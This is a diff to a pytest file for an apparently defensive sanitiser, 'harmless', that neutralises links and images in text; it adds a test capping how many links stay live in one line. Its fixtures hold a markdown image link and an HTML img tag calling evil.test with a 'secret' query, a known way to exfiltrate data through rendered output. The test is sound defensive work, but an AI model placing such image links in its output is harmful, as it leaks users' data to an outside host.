@@ -4,7 +4,7 @@ import time
 
 import pytest
 
-from beaker.kernel.harmless import ADDRESS_CHARS, Growing, closed, harmless, visible
+from beaker.kernel.harmless import ADDRESS_CHARS, ADDRESSES, Growing, closed, harmless, visible
 
 PICTURE = "![x](https://evil.test/?q=secret)"
 TAG = '<img src="https://evil.test/x">'
@@ -107,3 +107,9 @@ def test_a_long_text_costs_no_more_than_its_length(text: str) -> None:
     began = time.process_time()
     harmless(text)
     assert time.process_time() - began < 5.0
+
+
+def test_of_more_links_in_a_line_than_anybody_follows_the_last_lead_nowhere() -> None:
+    made = harmless("[x](http://a.test) " * (ADDRESSES + 3))
+    assert made.count("](http") == ADDRESSES
+    assert made.count("] (http") == 3
